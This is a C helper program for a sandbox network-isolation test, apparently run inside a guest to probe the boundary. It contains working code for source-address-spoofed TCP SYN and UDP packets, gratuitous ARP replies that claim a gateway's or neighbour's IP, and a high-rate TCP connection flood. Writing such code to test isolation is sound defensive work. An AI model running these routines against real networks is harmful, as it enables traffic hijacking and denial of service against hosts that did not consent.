/* hostile_guest: what a root attacker inside a sandbox tries against the
 * network boundary (tests/security/net_hostile_test). Static, no name
 * lookups; pushed into the guest with write_file.
 *
 *   hostile_guest spoof SRC DST PORT N
 *       N hand-built IPv4 packets each of TCP SYN and UDP ("spoof") from SRC
 *       (any address) to DST:PORT through a raw socket (IP_HDRINCL)
 *   hostile_guest arp IFACE IP N
 *       N gratuitous ARP replies, broadcast on IFACE, claiming IP for this
 *       guest's MAC (the gateway's, a neighbour's)
 *   hostile_guest flood SECONDS RATE ADDR PORT [ADDR PORT]...
 *       non-blocking TCP connects at RATE per second for SECONDS, spread over
 *       the targets; each socket is closed after about a second
 * Each prints what it sent ("sent N", "attempts N") and exits 0 when it
 * could send at all: the test asserts on what arrives, not on this. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint16_t csum(const void *data, size_t len, uint32_t sum)
{
        const uint8_t *p = data;
        for (; len > 1; p += 2, len -= 2)
                sum += (uint32_t)p[0] << 8 | p[1];
        if (len)
                sum += (uint32_t)p[0] << 8;
        while (sum >> 16)
                sum = (sum & 0xffff) + (sum >> 16);
        return htons((uint16_t)~sum);
}

/* The TCP/UDP checksum over the pseudo-header and l4 (len bytes). */
static uint16_t l4_csum(const struct iphdr *ip, const void *l4, size_t len)
{
        uint8_t pseudo[12];
        memcpy(pseudo, &ip->saddr, 4);
        memcpy(pseudo + 4, &ip->daddr, 4);
        pseudo[8] = 0;
        pseudo[9] = ip->protocol;
        pseudo[10] = len >> 8;
        pseudo[11] = len & 0xff;
        uint32_t sum = 0;
        for (int i = 0; i < 12; i += 2)
                sum += (uint32_t)pseudo[i] << 8 | pseudo[i + 1];
        return csum(l4, len, sum);
}

static size_t build(uint8_t *pkt, in_addr_t src, in_addr_t dst, int port, int proto, int seq)
{
        struct iphdr *ip = (struct iphdr *)pkt;
        size_t l4len = proto == IPPROTO_TCP ? sizeof(struct tcphdr) : sizeof(struct udphdr) + 5;
        memset(pkt, 0, sizeof(*ip) + l4len);
        ip->version = 4;
        ip->ihl = 5;
        ip->ttl = 64;
        ip->protocol = proto;
        ip->saddr = src;
        ip->daddr = dst;
        ip->id = htons(seq);
        ip->tot_len = htons(sizeof(*ip) + l4len);
        ip->check = csum(ip, sizeof(*ip), 0);
        uint8_t *l4 = pkt + sizeof(*ip);
        if (proto == IPPROTO_TCP) {
                struct tcphdr *t = (struct tcphdr *)l4;
                t->source = htons(40000 + seq % 20000);
                t->dest = htons(port);
                t->seq = htonl(0x1000 + seq);
                t->doff = 5;
                t->syn = 1;
                t->window = htons(65535);
                t->check = l4_csum(ip, l4, l4len);
        } else {
                struct udphdr *u = (struct udphdr *)l4;
                u->source = htons(40000 + seq % 20000);
                u->dest = htons(port);
                u->len = htons(l4len);
                memcpy(l4 + sizeof(*u), "spoof", 5);
                u->check = l4_csum(ip, l4, l4len);
        }
        return sizeof(*ip) + l4len;
}

static int spoof(const char *src, const char *dst, int port, int n)
{
        struct sockaddr_in to = { .sin_family = AF_INET };
        in_addr_t s;
        if (inet_pton(AF_INET, src, &s) != 1 || inet_pton(AF_INET, dst, &to.sin_addr) != 1)
                return 2;
        int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
        if (fd < 0) {
                perror("raw socket");
                return 1;
        }
        uint8_t pkt[128];
        int sent = 0;
        for (int i = 0; i < n; i++)
                for (int proto = 0; proto < 2; proto++) {
                        size_t len = build(pkt, s, to.sin_addr.s_addr, port, proto ? IPPROTO_UDP : IPPROTO_TCP, i);
                        if (sendto(fd, pkt, len, 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)len)
                                sent++;
                }
        close(fd);
        printf("sent %d\n", sent);
        return sent ? 0 : 1;
}

static int arp(const char *ifname, const char *claim, int n)
{
        struct ifreq ifr = { 0 };
        in_addr_t ip;
        int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
        if (fd < 0 || inet_pton(AF_INET, claim, &ip) != 1) {
                perror("packet socket");
                return 1;
        }
        snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
        if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0 || ioctl(fd, SIOCGIFINDEX, &ifr) < 0) {
                perror(ifname);
                return 1;
        }
        uint8_t mac[6];
        memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
        struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = ifr.ifr_ifindex, .sll_halen = 6 };
        memset(to.sll_addr, 0xff, 6);
        uint8_t frame[42];
        struct ether_header *eh = (struct ether_header *)frame;
        struct ether_arp *a = (struct ether_arp *)(frame + sizeof(*eh));
        memset(eh->ether_dhost, 0xff, 6);
        memcpy(eh->ether_shost, mac, 6);
        eh->ether_type = htons(ETH_P_ARP);
        a->arp_hrd = htons(ARPHRD_ETHER);
        a->arp_pro = htons(ETH_P_IP);
        a->arp_hln = 6;
        a->arp_pln = 4;
        a->arp_op = htons(ARPOP_REPLY);
        memcpy(a->arp_sha, mac, 6);
        memcpy(a->arp_spa, &ip, 4);
        memset(a->arp_tha, 0xff, 6);
        memcpy(a->arp_tpa, &ip, 4);
        int sent = 0;
        for (int i = 0; i < n; i++)
                if (sendto(fd, frame, sizeof(frame), 0, (struct sockaddr *)&to, sizeof(to)) == sizeof(frame))
                        sent++;
        close(fd);
        printf("sent %d\n", sent);
        return sent ? 0 : 1;
}

static double now_s(void)
{
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return ts.tv_sec + ts.tv_nsec / 1e9;
}

#define MAX_OPEN 8192

static int flood(double seconds, int rate, struct sockaddr_in *to, int n_to)
{
        static int fds[MAX_OPEN];
        static double born[MAX_OPEN];
        struct rlimit rl = { MAX_OPEN + 64, MAX_OPEN + 64 };
        setrlimit(RLIMIT_NOFILE, &rl);
        int head = 0, count = 0;
        long attempts = 0, refused = 0;
        double t0 = now_s(), t;
        while ((t = now_s() - t0) < seconds) {
                /* close what is a second old, or the oldest when full */
                while (count && (t - born[head] > 1.0 || count == MAX_OPEN)) {
                        close(fds[head]);
                        head = (head + 1) % MAX_OPEN;
                        count--;
                }
                if (attempts >= (long)(t * rate)) {
                        usleep(200);
                        continue;
                }
                int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
                if (fd < 0)
                        break;
                struct sockaddr_in *sa = &to[attempts % n_to];
                if (connect(fd, (struct sockaddr *)sa, sizeof(*sa)) < 0 && errno != EINPROGRESS)
                        refused++;
                attempts++;
                int slot = (head + count) % MAX_OPEN;
                fds[slot] = fd;
                born[slot] = t;
                count++;
        }
        while (count--) {
                close(fds[head]);
                head = (head + 1) % MAX_OPEN;
        }
        printf("attempts %ld refused %ld seconds %.2f\n", attempts, refused, now_s() - t0);
        return attempts ? 0 : 1;
}

int main(int argc, char **argv)
{
        if (argc == 6 && strcmp(argv[1], "spoof") == 0)
                return spoof(argv[2], argv[3], atoi(argv[4]), atoi(argv[5]));
        if (argc == 5 && strcmp(argv[1], "arp") == 0)
                return arp(argv[2], argv[3], atoi(argv[4]));
        if (argc >= 6 && argc % 2 == 0 && strcmp(argv[1], "flood") == 0) {
                struct sockaddr_in to[16];
                int n = 0;
                for (int i = 4; i + 1 < argc && n < 16; i += 2, n++) {
                        to[n] = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = htons(atoi(argv[i + 1])) };
                        if (inet_pton(AF_INET, argv[i], &to[n].sin_addr) != 1)
                                return 2;
                }
                return flood(atof(argv[2]), atoi(argv[3]), to, n);
        }
        fprintf(stderr, "usage: hostile_guest spoof SRC DST PORT N | arp IFACE IP N | "
                        "flood SECONDS RATE ADDR PORT [ADDR PORT]...\n");
        return 2;
}
